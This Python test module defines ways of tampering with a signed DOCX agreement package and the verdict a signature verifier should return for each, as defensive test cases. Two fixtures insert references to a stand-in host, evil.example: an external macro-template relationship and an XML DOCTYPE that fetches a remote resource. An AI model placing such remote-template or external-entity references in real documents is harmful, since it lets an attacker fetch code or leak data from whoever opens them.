"""Changes to a signed paper's parts: what is done, and the answer that the file must have then."""

from __future__ import annotations

import base64
from collections.abc import Callable
from functools import partial
from typing import Final

from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree

from agreements.papers.package import TYPES
from agreements.signing.digital import names as n
from agreements.verifying.answers import Answer
from agreements.verifying.content_types import CORE
from tests.agreements.signing.digital.signed import authority

TEXT: Final = "word/document.xml"
Parts = dict[str, bytes]


def replaced(parts: Parts, part: str, old: bytes, new: bytes) -> Parts:
    assert old in parts[part]
    return {**parts, part: parts[part].replace(old, new, 1)}


def forged(parts: Parts) -> Parts:
    return replaced(parts, TEXT, b"30,000", b"31,000")


def _picture(parts: Parts) -> Parts:
    image = next(path for path in parts if path.endswith(".png"))
    spoilt = bytearray(parts[image])
    spoilt[-20] ^= 1
    return {**parts, image: bytes(spoilt)}


def _orphan(parts: Parts) -> Parts:
    return {**parts, "word/media/orphan.png": b"\x89PNG\r\n"}


def _related(parts: Parts) -> Parts:
    line = b'<Relationship Id="rId77" Type="http://x/y" Target="footnotes.xml"/></Relationships>'
    more = replaced(parts, "word/_rels/document.xml.rels", b"</Relationships>", line)
    return {**more, "word/footnotes.xml": b"<x/>"}


def _typed(parts: Parts) -> Parts:
    return replaced(parts, TYPES, b"document.main+xml", b"template.main+xml")


def _metadata(parts: Parts) -> Parts:
    return replaced(parts, CORE, b"<cp:keywords></", b"<cp:keywords>x</")


def _swapped(parts: Parts) -> Parts:
    one, two = [path for path in sorted(parts) if path.endswith(".png")][:2]
    return {**parts, one: parts[two], two: parts[one]}


def _second_document(parts: Parts) -> Parts:
    line = (
        b'<Relationship Id="rId0" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="word/forged.xml"/></Relationships>'
    )
    more = replaced(parts, n.PACKAGE_RELS, b"</Relationships>", line)
    return {**more, "word/forged.xml": parts[TEXT].replace(b"30,000", b"00,500")}


def _stripped(parts: Parts, number: int) -> Parts:
    """A signature taken out, its traces with it."""
    part = n.signature_part(number)
    named = (f"/{part}", part.removeprefix(n.SIGNATURES))
    left = {path: content for path, content in parts.items() if path != part}
    for path in (TYPES, n.ORIGIN_RELS):
        root = etree.fromstring(left[path])
        for e in list(root):
            if (e.get("PartName") or e.get("Target")) in named:
                root.remove(e)
        left[path] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return left


def _time(parts: Parts) -> Parts:
    return replaced(parts, n.signature_part(1), b"2026-11-29T04", b"2026-11-29T05")


def _more_certificates(parts: Parts) -> Parts:
    der = authority().certificate.public_bytes(Encoding.DER)
    extra = b"<X509Certificate>" + base64.b64encode(der) + b"</X509Certificate></X509Data>"
    return replaced(parts, n.signature_part(1), b"</X509Data>", extra)


def _unrelated_footer(parts: Parts) -> Parts:
    path = "word/_rels/document.xml.rels"
    root = etree.fromstring(parts[path])
    root.remove(next(e for e in root if "footer" in e.attrib["Target"]))
    return {**parts, path: etree.tostring(root)}


def _newline(parts: Parts) -> Parts:
    return {**parts, TEXT: parts[TEXT] + b"\n"}


def _external(parts: Parts) -> Parts:
    rels = (
        f'<Relationships xmlns="{n.RELATIONSHIPS}"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return {**parts, "word/_rels/settings.xml.rels": rels.encode()}


def _unsigned_properties(parts: Parts) -> Parts:
    return replaced(parts, n.signature_part(2), b"</xd:QualifyingProperties>",
                     b"<xd:UnsignedProperties/></xd:QualifyingProperties>")  # fmt: skip


def _retargeted(parts: Parts) -> Parts:
    return replaced(parts, n.signature_part(1), b'Target="#idPackageSignature"><xd',
                     b'Target="#idOther"><xd')  # fmt: skip


def _lists_typed(parts: Parts) -> Parts:
    line = b'<Override PartName="/word/_rels/document.xml.rels" ContentType="image/png"/></Types>'
    return replaced(parts, TYPES, b"</Types>", line)


def _pictures_typed(parts: Parts) -> Parts:
    """What a careless reader takes for the pictures' own types are endings that no part has."""
    lines = "".join(
        f'<Default Extension="/{path}" ContentType="image/png"/>'
        for path in parts
        if path.endswith(".png")
    )
    more = replaced(parts, TYPES, b'"image/png"', b'"text/html"')
    return replaced(more, TYPES, b"</Types>", f"{lines}</Types>".encode())


def _document_type(parts: Parts) -> Parts:
    declared = b'<!DOCTYPE Relationships [<!ENTITY a "b">]><Relationships '
    return replaced(parts, n.PACKAGE_RELS, b"<Relationships ", declared)


def _fetching_properties(parts: Parts) -> Parts:
    declared = b'<!DOCTYPE a SYSTEM "http://evil.example/a"><cp:coreProperties '
    return replaced(parts, CORE, b"<cp:coreProperties ", declared)


def _other_properties(parts: Parts) -> Parts:
    return {**parts, CORE: b"PK\x03\x04 whatever"}


def _other_letters(parts: Parts) -> Parts:
    """Read as UTF-16 it is the same; read by its declaration it is not."""
    text = parts[n.PACKAGE_RELS].decode().replace("UTF-8", "UTF-16")
    return {**parts, n.PACKAGE_RELS: text.encode("utf-16")}


CHANGES: Final[dict[str, tuple[str, Callable[[Parts], Parts], Answer]]] = {
    "T01": ("one character of a sum", forged, Answer.ALTERED),
    "T02": ("one byte of a signature's picture", _picture, Answer.ALTERED),
    "T03": ("a part that nothing leads to", _orphan, Answer.ALTERED),
    "T04": ("a part and a relationship to it", _related, Answer.ALTERED),
    "T05": ("another content type of the text", _typed, Answer.ALTERED),
    "T06": ("the file's properties", _metadata, Answer.REPACKED),
    "T07": ("two signatures' pictures exchanged", _swapped, Answer.ALTERED),
    "T08": ("a second, forged text before the first", _second_document, Answer.ALTERED),
    "T09": ("a signature taken out", partial(_stripped, number=3), Answer.INCOMPLETE),
    "T09b": ("the first signature taken out", partial(_stripped, number=1), Answer.INCOMPLETE),
    "T11": ("the time of a signature", _time, Answer.ALTERED),
    "T14": ("one more certificate in a signature", _more_certificates, Answer.ALTERED),
    "T15": ("properties added beside those signed", _unsigned_properties, Answer.ALTERED),
    "T16": ("the foot of the pages cut off", _unrelated_footer, Answer.ALTERED),
    "T17": ("a line end after the text", _newline, Answer.ALTERED),
    "T18": ("a template fetched from elsewhere", _external, Answer.ALTERED),
    "T19": ("properties that point elsewhere", _retargeted, Answer.ALTERED),
    "T20": ("another type of a list of relationships", _lists_typed, Answer.ALTERED),
    "T21": ("pictures declared to be pages", _pictures_typed, Answer.ALTERED),
    "T22": ("a document type before relationships", _document_type, Answer.ALTERED),
    "T23": ("properties that fetch something", _fetching_properties, Answer.ALTERED),
    "T24": ("anything else in place of properties", _other_properties, Answer.ALTERED),
    "T25": ("relationships in another encoding", _other_letters, Answer.ALTERED),
}
